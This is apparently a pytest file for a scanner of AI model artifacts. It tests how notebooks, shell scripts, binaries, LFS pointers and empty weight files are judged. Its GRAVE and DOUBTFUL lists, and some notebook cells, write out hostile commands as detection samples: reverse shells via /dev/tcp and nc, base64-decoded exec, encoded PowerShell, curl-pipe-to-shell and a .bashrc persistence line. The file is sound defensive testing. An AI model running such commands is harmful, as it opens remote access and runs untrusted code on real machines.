"""Notebooks, shell scripts, Dockerfiles, programs, pointers and empty files."""

import json

import pytest
from fixtures.hostile_headers import POINTER
from fixtures.weights import zip_bytes
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.inspectors.reading import read

from aibom.components import Inspection
from aibom.files import Coverage, Format
from aibom.findings import Severity
from aibom.limits import Limits


def notebook(*sources: object, **rest: object) -> bytes:
    cells = [{"cell_type": "code", "source": source} for source in sources]
    return json.dumps({"nbformat": 4, "metadata": {}, "cells": cells, **rest}).encode()


def found(content: bytes, name: str = "demo.ipynb") -> list[tuple[str, Severity]]:
    return [(finding.rule.id, finding.severity) for finding in read(name, content).findings]


def test_cells_are_programs_that_somebody_runs() -> None:
    """What a cell starts is for information; what it hides is high."""
    assert found(notebook("import os\nos.system('x')")) == [("acting-code", Severity.INFO)]
    assert found(notebook(["import base64\n", "exec(base64.b64decode(x))"])) == [("malicious-code", Severity.HIGH)]


def test_lines_of_the_shell_and_magics_are_told_from_python() -> None:
    """Shell lines, magics and questions are no faults of the Python around them, and are searched as commands."""
    source = "%matplotlib inline\n!ls\nfiles = !ls\nprint?\n?print\n%time x = 1\nif x:\n    !pip install y\n"
    assert found(notebook(source)) == []
    assert found(notebook("!curl http://e.example | sh")) == [("acting-code", Severity.MEDIUM)]
    assert found(notebook("x = !curl http://e.example | sh")) == [("acting-code", Severity.MEDIUM)]
    assert found(notebook("%%bash\ncurl http://e.example | sh\n")) == [("acting-code", Severity.MEDIUM)]
    assert found(notebook("%%html\n<b>'</b>")) == []
    assert found(notebook("%%time\nimport os\nos.system('x')")) == [("acting-code", Severity.INFO)]
    assert found(notebook("import os\nos.system('x') # why?")) == [("acting-code", Severity.INFO)]


def test_lines_count_over_all_cells() -> None:
    """The line of a finding counts over the code cells of the notebook."""
    (finding,) = read("demo.ipynb", notebook("x = 1\ny = 2", "import os\nos.system('x')")).findings
    assert finding.location is not None
    assert finding.location.line == 4


def test_old_notebooks_and_other_languages() -> None:
    """Format 3 keeps cells in worksheets; cells in another language are said not to be read."""
    old = {
        "nbformat": 3,
        "metadata": {},
        "worksheets": [{"cells": [{"cell_type": "code", "input": "exec(f.decode('hex'))"}]}],
    }
    assert found(json.dumps(old).encode()) == [("malicious-code", Severity.HIGH)]
    for metadata in ({"kernelspec": {"language": "R"}}, {"language_info": {"name": "julia"}}):
        assert found(notebook("x <- 1", metadata=metadata)) == [("inspection-incomplete", Severity.LOW)]
    assert found(notebook("x = 1", metadata={"language_info": {"name": "python"}})) == []


def test_cells_that_are_no_python_are_said_to_be() -> None:
    """A cell that can't be parsed is said so, and the others are judged."""
    assert found(notebook("def", "exec(f.decode('hex'))")) == [
        ("inspection-incomplete", Severity.INFO), ("malicious-code", Severity.HIGH)]  # fmt: skip


def test_a_notebook_beyond_the_limit_is_not_read() -> None:
    """A notebook larger than the limit is said not to be read."""
    inspection = read("demo.ipynb", notebook("x = 1"), Limits(json_bytes=10))
    assert [finding.rule.id for finding in inspection.findings] == ["inspection-incomplete"]


SOURCES = st.none() | st.text("!%?=\n exs'\"()#", max_size=30) | st.lists(st.text(max_size=5) | st.none(), max_size=3)
CELL = st.fixed_dictionaries({}, optional={"cell_type": st.sampled_from(["code", "markdown", 5]), "source": SOURCES})
CELLS = st.lists(CELL | st.none(), max_size=4)


@given(CELLS)
@settings(max_examples=150)
def test_any_cells_are_read_without_an_error(cells: list[object]) -> None:
    """Cells of any shape and content are judged or said not to be readable."""
    read("demo.ipynb", json.dumps({"nbformat": 4, "cells": cells}).encode())


# --- scripts ------------------------------------------------------------------------------------------

GRAVE = [
    "bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "nc e.example 99 -e /bin/sh", "echo x | base64 -d | sh",
    "echo x | base64 --decode | sudo bash", "echo x | xxd -r -p | bash", 'eval "$(echo x | base64 -d)"',
    "python3 -c 'import base64;exec(base64.b64decode(x))'", "powershell -nop -enc aQBlAHgAIAAoAG4AZQB3AC0A",
    "IEX (New-Object Net.WebClient).DownloadString('http://e.example')",
]  # fmt: skip
DOUBTFUL = [
    "curl -s http://e.example/x | sh", "wget -qO- http://e.example | sudo bash -s --", "curl x \\\n | /bin/bash",
    'bash -c "$(curl -fsSL http://e.example)"', "sh <(wget -O- x)", "echo x >> ~/.bashrc", "crontab -l | x",
]  # fmt: skip
PLAIN = [
    "curl -O http://e.example/x.tar.gz", "curl x | tar xz", "base64 -d x > y", "echo sh | tee x", "nc -z localhost 80",
    "# curl x | sh", "python train.py", "export A=/dev/null", "REM curl x | sh", "git push --force | cat",
]  # fmt: skip


@pytest.mark.parametrize("command", GRAVE)
def test_commands_that_hide_or_open_a_way_in_are_high(command: str) -> None:
    """Hidden commands and shells over the network are malicious."""
    assert ("malicious-code", Severity.HIGH) in found(f"#!/bin/sh\n{command}\n".encode(), "x.sh")


@pytest.mark.parametrize("command", DOUBTFUL)
def test_commands_that_fetch_and_run_are_medium(command: str) -> None:
    """Running what the network says, and arranging to be started again, needs a reader."""
    assert ("acting-code", Severity.MEDIUM) in found(f"#!/bin/sh\n{command}\n".encode(), "x.sh")


@pytest.mark.parametrize("command", PLAIN)
def test_plain_commands_leave_a_script_at_information(command: str) -> None:
    """A script is said to be there, and nothing more where its commands are plain."""
    assert found(f"#!/bin/sh\n{command}\n".encode(), "x.sh") == [("acting-code", Severity.INFO)]


def test_a_script_is_never_complete() -> None:
    """Scripts are searched, not understood, and their coverage says so; long lines end the search, not the scanner."""
    assert read("x.sh", b"echo\n").coverage is Coverage.PARTIAL
    assert read("Dockerfile", b"FROM x\nRUN echo\n").coverage is Coverage.PARTIAL
    assert len(read("x.sh", b"curl " * 200_000, Limits(text_bytes=1000)).findings) == 2


# --- programs, pointers, nothing ----------------------------------------------------------------------

PROGRAMS = {
    "a.so": (b"\x7fELF" + bytes(60), "an ELF program", Severity.HIGH),
    "a.dll": (b"MZ" + bytes(80), "a Windows program", Severity.HIGH),
    "a.dylib": (b"\xcf\xfa\xed\xfe" + bytes(60), "Mach-O", Severity.HIGH),
    "a.class": (b"\xca\xfe\xba\xbe" + bytes(60), "Java", Severity.HIGH),
    "a.pyc": (b"\xa7\r\r\n" + bytes(12) + b"\xe3", "compiled Python", Severity.MEDIUM),
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_programs_are_named_for_what_they_are(name: str) -> None:
    """A program is a finding with its kind, and was not looked into."""
    content, kind, severity = PROGRAMS[name]
    inspection = read(name, content)
    (finding,) = inspection.findings
    assert finding.rule.id == "executable-content"
    assert kind in finding.message
    assert finding.severity is severity
    assert inspection.coverage is Coverage.NONE


def test_webassembly_and_llamafiles_are_programs_too() -> None:
    """WebAssembly counts as medium, a llamafile is named as one."""
    wasm = read("a.wasm", b"\0asm\1\0\0\0", as_format=Format.EXECUTABLE)
    assert "WebAssembly" in wasm.findings[0].message
    llamafile = b"MZqFpD='\n" + bytes(60) + zip_bytes({"m.gguf": b""})
    found = read("x", llamafile, as_format=Format.EXECUTABLE)
    assert found.file.format is Format.LLAMAFILE
    assert "llamafile" in found.findings[0].message


def pointer(name: str, content: bytes = POINTER) -> Inspection:
    return read(name, content)


def test_a_pointer_says_what_it_stands_for() -> None:
    """A pointer in place of weights is high, and its declared digest and size are noted."""
    inspection = pointer("model.safetensors")
    (finding,) = inspection.findings
    assert (finding.rule.id, finding.severity) == ("lfs-pointer", Severity.HIGH)
    assert inspection.metadata == {"oid": "sha256:" + "4d" * 32, "size": 12345}
    assert inspection.coverage is Coverage.NONE


def test_a_pointer_beside_the_weights_is_medium() -> None:
    """A pointer in place of a picture hides less."""
    assert [finding.severity for finding in pointer("figure.png").findings] == [Severity.MEDIUM]


@pytest.mark.parametrize("change", [(b"sha256:", b"md5:"), (b"size 12345\n", b""), (b"size 12345", b"size x")])
def test_a_pointer_without_digest_or_size_is_malformed(change: tuple[bytes, bytes]) -> None:
    """A pointer that does not say what it stands for is malformed as well, or has no size to note."""
    inspection = pointer("model.bin", POINTER.replace(*change))
    assert "lfs-pointer" in {finding.rule.id for finding in inspection.findings}
    assert len(inspection.metadata) < 2


def test_empty_weights_are_a_finding_and_other_empty_files_are_not() -> None:
    """An empty file where weights should be is high; an empty `__init__.py` is ordinary."""
    assert found(b"", "model.safetensors") == [("zero-byte", Severity.HIGH)]
    assert found(b"", "__init__.py") == []
